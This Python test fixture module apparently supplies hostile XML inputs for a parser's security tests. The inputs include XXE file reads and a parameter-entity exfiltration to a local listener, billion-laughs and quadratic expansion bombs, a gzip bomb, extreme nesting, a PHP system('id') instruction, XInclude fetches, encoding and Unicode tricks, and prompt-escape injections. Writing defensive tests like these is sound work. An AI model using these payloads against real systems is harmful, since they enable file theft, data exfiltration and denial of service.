"""The attacks that ``test_hostile_xml.py`` makes: whole documents by name, and fragments to build more of."""

import gzip
from pathlib import Path

SECRET = "settei-secret-5f1c"
PLAIN = '<scene format="1" slug="a"><name>A</name><background><tag>park</tag></background></scene>'
PROMPT = "<character_1><n>a</n><gender>1girl</gender><pose>standing</pose></character_1>\n"
XSI = "http://www.w3.org/2001/XMLSchema-instance"


FRAGMENTS = (
    *(
        b"<!DOCTYPE a>",
        b"<!ENTITY x 'y'>",
        b"&x;",
        b"&#x202e;",
        b"&#0;",
        b"<![CDATA[",
        b"]]>",
        b"<!--",
        b"-->",
        b"<?p ?>",
    ),
    *(b"</a>", b"<a>", b"<", b">", b'"', b"'", b"\x00", b"\xff", b"\xed\xa0\x80", "\u202e".encode(), "\u200b".encode()),
    *(
        b"xmlns:x='u'",
        b"xmlns='u'",
        b"<tag/>",
        b"<prompt>",
        b"</prompt>",
        PROMPT.encode(),
        PLAIN.encode(),
        b"\r",
        b"\\(",
    ),
)


def entities(*declarations: str, body: str = "&x;") -> bytes:
    return f"<!DOCTYPE scene [{''.join(declarations)}]><scene>{body}</scene>".encode()


def laughs(levels: int = 12) -> tuple[str, ...]:
    steps = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels)]
    return ('<!ENTITY l0 "ha">', *steps, f'<!ENTITY x "&l{levels - 1};">')


def seeds(folder: Path, port: int) -> dict[str, bytes]:
    """Return the attacks by name; they aim at a secret file in ``folder`` and at a listener on ``port``."""
    secret, url = (folder / "secret.txt").as_uri(), f"http://127.0.0.1:{port}/x"
    return {
        "xxe-file": entities(f'<!ENTITY x SYSTEM "{secret}">'),
        "xxe-path": entities(f'<!ENTITY x SYSTEM "{folder / "secret.txt"}">'),
        "xxe-http": entities(f'<!ENTITY x SYSTEM "{url}">'),
        "xxe-public": entities(f'<!ENTITY x PUBLIC "-//X//Y" "{secret}">'),
        "xxe-parameter": entities(f'<!ENTITY % p SYSTEM "{secret}"> %p;'),
        "xxe-exfiltrate": entities(
            f'<!ENTITY % p SYSTEM "{secret}"><!ENTITY % q "<!ENTITY x SYSTEM \'{url}?%p;\'>">%q;'
        ),
        "xxe-in-attribute": entities(f'<!ENTITY x SYSTEM "{secret}">', body='<name a="&x;"/>'),
        "xxe-notation": entities(f'<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{secret}" NDATA n>'),
        "xxe-lower-case": entities(f'<!entity x system "{secret}">').replace(b"<!DOCTYPE", b"<!doctype"),
        "dtd-file": f'<!DOCTYPE scene SYSTEM "{secret}">{PLAIN}'.encode(),
        "dtd-http": f'<!DOCTYPE scene SYSTEM "{url}">{PLAIN}'.encode(),
        "dtd-public": f'<!DOCTYPE scene PUBLIC "-//X//Y" "{url}">{PLAIN}'.encode(),
        "dtd-default-attribute": f'<!DOCTYPE scene [<!ATTLIST scene role CDATA "admin">]>{PLAIN}'.encode(),
        "dtd-empty": f"<!DOCTYPE scene>{PLAIN}".encode(),
        "laughs": entities(*laughs()),
        "laughs-in-attribute": entities(*laughs(), body='<name a="&x;"/>'),
        "quadratic": entities(f'<!ENTITY x "{"a" * 50_000}">', body="&x;" * 40_000),
        "quadratic-small": entities(f'<!ENTITY x "{"a" * 3_000}">', body="&x;" * 3_000),
        "small-expansion": entities('<!ENTITY x "haha">', body="&x;" * 5_000),
        "entity-loop": entities('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        "entity-loop-parameter": entities('<!ENTITY % p "&#37;p;"> %p;'),
        "entity-undeclared": b"<scene>&x;</scene>",
        "entity-in-cdata-disguise": b"<scene><![CDATA[]]>&x;</scene>",
        "depth-300": b"<a>" * 300 + b"</a>" * 300,
        "depth-30000": b"<a>" * 30_000 + b"</a>" * 30_000,
        "depth-a-million": b"<a>" * 1_000_000,
        "attributes-100k": b"<a " + b" ".join(b'a%d=""' % n for n in range(100_000)) + b"/>",
        "attributes-20k": b"<a " + b" ".join(b'a%d=""' % n for n in range(20_000)) + b"/>",
        "namespaces-50k": b"<a " + b" ".join(b'xmlns:n%d="u%d"' % (n, n) for n in range(50_000)) + b"/>",
        "namespaces-10k": b"<a " + b" ".join(b'xmlns:n%d="u%d"' % (n, n) for n in range(10_000)) + b"/>",
        "namespaces-nested": b"".join(b'<a xmlns="u%d">' % n for n in range(30)) + b"</a>" * 30,
        "attribute-20mb": b'<a b="' + b"x" * 20_000_000 + b'"/>',
        "attribute-200kb": b'<a b="' + b"x" * 200_000 + b'"/>',
        "comment-20mb": b"<a><!--" + b"x" * 20_000_000 + b"--></a>",
        "comment-200kb": b"<a><!--" + b"x" * 200_000 + b"--></a>",
        "siblings-a-million": b"<a>" + b"<b/>" * 1_000_000 + b"</a>",
        "siblings-60k": b"<a>" + b"<b/>" * 60_000 + b"</a>",
        "text-20mb": b"<a>" + b"x" * 20_000_000 + b"</a>",
        "name-200kb": b"<" + b"a" * 200_000 + b"/>",
        "cdata-openings": b"<a>" + b"<![CDATA[" * 25_000 + b"</a>",
        "ampersands": b"<a>" + b"&" * 200_000 + b"</a>",
        "references": b"<a>" + b"&#8206;" * 30_000 + b"</a>",
        "digits": b"<a>&#" + b"1" * 200_000 + b";</a>",
        "declaration-blanks": b'<?xml version="1.0"' + b" " * 200_000 + b"encoding='x'?><a/>",
        "xinclude-file": f'<scene xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{secret}" parse="text"/></scene>'.encode(),
        "xinclude-http": f'<scene xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{url}"/></scene>'.encode(),
        "xinclude-2003": b'<a xmlns:i="http://www.w3.org/2003/XInclude"><i:fallback/></a>',
        "stylesheet": f'<?xml-stylesheet href="{url}"?>{PLAIN}'.encode(),
        "instruction": b"<a><?php system('id') ?></a>",
        "comment": b"<a><!-- x --></a>",
        "schema-location": f'<scene xmlns:x="{XSI}" x:noNamespaceSchemaLocation="{url}"/>'.encode(),
        "schema-nil": f'<scene xmlns:x="{XSI}" x:nil="true"/>'.encode(),
        "bidi": "<a>\u202egnp.exe\u202c</a>".encode(),
        "bidi-isolate": "<a>\u2066x\u2069</a>".encode(),
        "bidi-reference": b"<a>&#x202e;</a>",
        "zero-width": "<a>mi\u200bku</a>".encode(),
        "zero-width-joiner": "<a>mi\u200dku</a>".encode(),
        "soft-hyphen": "<a>mi\u00adku</a>".encode(),
        "tag-characters": "<a>\U000e0073\U000e0065</a>".encode(),
        "separator": "<a>x\u2028y</a>".encode(),
        "utf-16": PLAIN.encode("utf-16"),
        "utf-16-le": PLAIN.encode("utf-16-le"),
        "utf-16-be-declared": f'<?xml version="1.0" encoding="UTF-16"?>{PLAIN}'.encode("utf-16-be"),
        "utf-32": PLAIN.encode("utf-32"),
        "utf-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-',
        "utf-7-undeclared": b"+ADw-a/+AD4-",
        "ebcdic": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"),
        "latin-1": '<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode("latin-1"),
        "shift-jis": '<?xml version="1.0" encoding="Shift_JIS"?><a>初音</a>'.encode("shift-jis"),
        "declared-otherwise": b'<?xml version="1.0" encoding="US-ASCII"?><a/>',
        "byte-order-mark": b"\xef\xbb\xbf<a/>",
        "nul": b"<a>\x00</a>",
        "nul-reference": b"<a>&#0;</a>",
        "c0": b"<a>\x01\x08\x1b[31m</a>",
        "surrogates": b"<a>\xed\xa0\x80\xed\xb0\x80</a>",
        "surrogate-reference": b"<a>&#xD800;</a>",
        "noncharacter": "<a>\ufffe</a>".encode(),
        "noncharacter-reference": b"<a>&#xFFFF;</a>",
        "overlong": b"<a>\xc0\xbc</a>",
        "bad-utf-8": b"<a>\xff\xfe\xfd</a>",
        "cut-utf-8": "<a>初".encode()[:-1],
        "duplicate-attribute": b'<a b="1" b="2"/>',
        "duplicate-attribute-namespace": b'<a xmlns:p="u" xmlns:q="u" p:b="1" q:b="2"/>',
        "two-roots": b"<a/><a/>",
        "unclosed": b"<a><b></a>",
        "gzip": gzip.compress(PLAIN.encode()),
        "gzip-bomb": gzip.compress(b"<a>" + b"x" * 5_000_000 + b"</a>"),
        "prompt-escape": f"</prompt><prompt>{PROMPT}".encode(),
        "prompt-declaration": f'<?xml version="1.0"?>{PROMPT}'.encode(),
        "prompt-entity": PROMPT.replace("standing", "&amp;lt;").encode(),
        "prompt-many-blocks": PROMPT.encode() * 1000,
        "prompt-many-tags": f"<danbooru_tags>{','.join(map(str, range(40_000)))}</danbooru_tags>".encode(),
        "prompt-words": PROMPT.replace("</pose>", f"</pose><position>{'center, ' * 30_000}x</position>").encode(),
        "prompt-digits": PROMPT.replace("</pose>", f"</pose><position>x:{'1' * 200_000}</position>").encode(),
        "prompt-backslashes": PROMPT.replace("standing", "\\" * 200_000).encode(),
        "prompt-blanks": PROMPT.replace("standing", " \n" * 100_000 + ">").encode(),
    }
